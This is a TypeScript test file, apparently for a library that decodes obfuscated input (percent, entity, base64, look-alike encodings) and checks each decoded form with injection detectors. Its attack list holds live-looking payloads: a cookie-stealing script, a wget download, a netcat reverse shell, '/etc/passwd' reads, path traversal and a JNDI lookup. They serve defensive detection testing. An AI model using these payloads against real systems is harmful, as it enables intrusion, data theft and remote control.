import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { Inspect } from '../../../src/inspection/finding.ts'
import { commandInjection } from '../../../src/inspection/shell/command-injection.ts'
import { expressionInjection } from '../../../src/inspection/expression/expression-injection.ts'
import { scriptInjection } from '../../../src/inspection/markup/script-injection.ts'
import { pathInjection } from '../../../src/inspection/paths/path-injection.ts'
import { inViews, views } from '../../../src/inspection/views/views.ts'

const READINGS: readonly (readonly [value: string, reading: string, name: string])[] = [
  ['%27%20or', "' or", 'percent'],
  ['%2527', "'", 'percent > percent'],
  ['%252527', "'", 'percent > percent > percent'],
  ['%c3%a9t%C3%A9', 'été', 'percent'],
  ['%e9t%e9', 'été', 'percent'],
  ['%c0%ae%c0%ae%c0%af', '../', 'percent'],
  ['%e0%80%ae', '.', 'percent'],
  ['%u002e%u002f', './', 'percent'],
  ['&lt;b&gt;', '<b>', 'entities'],
  ['&lt&gt', '<>', 'entities'],
  ['&ltimg', '<img', 'entities'],
  ['&#60;&#x3C;&#X3c&#0000060;', '<<<<', 'entities'],
  ['&lpar;&colon;&Tab;&NewLine;&rpar;', '(:\t\n)', 'entities'],
  ['&amp;lt;', '<', 'entities > entities'],
  [String.raw`\u003cb\u{3e}\x3c\74`, '<b><<', 'escapes'],
  [String.raw`say \"hi\"`, 'say "hi"', 'escapes'],
  [String.raw`a\nb`, 'a\nb', 'escapes'],
  ['JTI3IG9yIDE9MQ==', "' or 1=1", 'tokens > percent'],
  ['Li4vLi4vZXRjL3Bhc3N3ZA', '../../etc/passwd', 'tokens'],
  ['2e2e2f2e2e2f657463', '../../etc', 'tokens'],
  ['before PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== after', 'before <script>alert(1)</script> after', 'tokens'],
  ['ｓｅｌｅｃｔ　＊', 'select *', 'look-alikes'],
  ['ѕеlесt', 'select', 'look-alikes'],
  ['sel\u200bect', 'select', 'look-alikes'],
  ['\u{e0041}\u{e0042}', 'AB', 'look-alikes'],
  ['‘a’ – “b” ∕', `'a' - "b" /`, 'look-alikes'],
  ['a\u0000b', 'ab', 'look-alikes'],
  ['cat+/etc/passwd', 'cat /etc/passwd', 'plus'],
  ['a%26lt%3Bb', 'a<b', 'percent+entities'],
]
for (const [value, reading, name] of READINGS) {
  test(`${value} can be read as ${JSON.stringify(reading)}`, () => {
    const seen = views(value).find(({ text }) => text === reading)
    assert.equal(seen?.name, name, JSON.stringify(views(value)))
    assert.deepEqual(views(value)[0], { name: 'raw', text: value })
  })
}

const PLAIN = [
  '',
  'flight to Lisbon',
  'a/b/c.txt',
  'Съешь же ещё этих мягких французских булок',
  'internationalization-and-localization',
  '550e8400-e29b-41d4-a716-446655440000',
  '5f4dcc3b5aa765d61d8327deb882cf99',
  'username',
  'https://example.com/a/b?c=d',
  '日本語のテキスト',
]
for (const value of PLAIN) test(`${value || 'nothing'} has one reading`, () => assert.equal(views(value).length, 1))

const anything = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
  fc
    .array(
      fc.constantFrom(
        '%',
        '25',
        '27',
        '&',
        '#',
        'x3c',
        ';',
        'lt',
        '\\',
        'u0027',
        'A',
        'ﷺ',
        '\u200b',
        '+',
        'ＡＢ',
        'аb',
      ),
      { maxLength: 60 },
    )
    .map((parts) => parts.join('')),
)

test('views are few, bounded in sum, distinct, and begin with the value', () => {
  fc.assert(
    fc.property(anything, (value) => {
      const all = views(value)
      assert.equal(all[0]?.text, value)
      assert.ok(all.length <= 4)
      assert.ok(all.slice(1).reduce((sum, { text }) => sum + text.length, 0) <= Math.max(2 * value.length, 8192))
      assert.equal(new Set(all.map(({ name }) => name)).size, all.length)
    }),
    { numRuns: 2000 },
  )
})

test('a large value does not grow beyond twice its size in sum', () => {
  for (const piece of ['%2527', '&amp;lt;', '\\\\u0027', 'ﷺ', 'ѕe', '%25%32%35']) {
    const value = piece.repeat(20_000)
    const sum = views(value)
      .slice(1)
      .reduce((total, { text }) => total + text.length, 0)
    assert.ok(sum <= 2 * value.length, piece)
  }
})

test('the views of a value do not depend on what was asked before', () => {
  const first = structuredClone(views('%2527'))
  views('&lt;')
  assert.deepEqual(views('%2527'), first)
})

test('a detector is told every view, stops at the first with more than a hint, and the view is named', () => {
  const asked: string[] = []
  const inspect: Inspect = (value) => {
    asked.push(value)
    if (value.includes('"')) return [{ family: 'sql', weight: 'strong', reason: 'sql.x', evidence: value }]
    return [{ family: 'sql', weight: 'hint', reason: 'sql.y', evidence: value }]
  }
  const seen = inViews(inspect)('%2522')
  assert.deepEqual(asked, ['%2522', '%22', '"'])
  assert.deepEqual(
    seen.map(({ weight, view }) => [weight, view]),
    [
      ['hint', undefined],
      ['hint', 'percent'],
      ['strong', 'percent > percent'],
    ],
  )
  asked.length = 0
  inViews(inspect)('"%2522')
  assert.deepEqual(asked, ['"%2522'])
})

const ATTACKS: readonly (readonly [attack: string, inspect: Inspect])[] = [
  ['<svg/onload=alert(1)>', scriptInjection],
  ['" onfocus="alert(document.cookie)', scriptInjection],
  ['javascript:alert(1)//', scriptInjection],
  ['; wget http://198.51.100.7/a -O /tmp/a', commandInjection],
  ['$(cat /etc/passwd)', commandInjection],
  ['| nc 198.51.100.7 4444 -e /bin/sh', commandInjection],
  ['../../../../etc/passwd', pathInjection],
  ['..\\..\\windows\\win.ini', pathInjection],
  ['{{7*7}}', expressionInjection],
  ['${jndi:ldap://198.51.100.7/a}', expressionInjection],
]
const bytes = (text: string) => [...new TextEncoder().encode(text)]
const ENCODINGS: Readonly<Record<string, (text: string) => string>> = {
  percent: (text) =>
    bytes(text)
      .map((byte) => `%${byte.toString(16).padStart(2, '0')}`)
      .join(''),
  component: (text) => encodeURIComponent(text),
  decimal: (text) => Array.from(text, (char) => `&#${char.codePointAt(0)};`).join(''),
  hexadecimal: (text) => Array.from(text, (char) => `&#x${char.codePointAt(0)?.toString(16)};`).join(''),
  unicode: (text) => Array.from(text, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  escaped: (text) =>
    bytes(text)
      .map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`)
      .join(''),
  base64: (text) => Buffer.from(text).toString('base64'),
  base64url: (text) => Buffer.from(text).toString('base64url'),
  hex: (text) => Buffer.from(text).toString('hex'),
  fullWidth: (text) => text.replace(/[!-~]/g, (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0)),
  zeroWidth: (text) => Array.from(text).join('\u200b'),
}
test('every attack is found under every encoding and under every pair of encodings', () => {
  const missed: string[] = []
  for (const [attack, inspect] of ATTACKS) {
    const isFound = (text: string) => inViews(inspect)(text).some(({ weight }) => weight === 'strong')
    assert.ok(isFound(attack), attack)
    for (const [first, encode] of Object.entries(ENCODINGS)) {
      if (!isFound(encode(attack))) missed.push(`${first}: ${attack}`)
      for (const [second, again] of Object.entries(ENCODINGS)) {
        if (!isFound(again(encode(attack)))) missed.push(`${first} > ${second}: ${attack}`)
      }
    }
  }
  assert.deepEqual(missed, [])
})
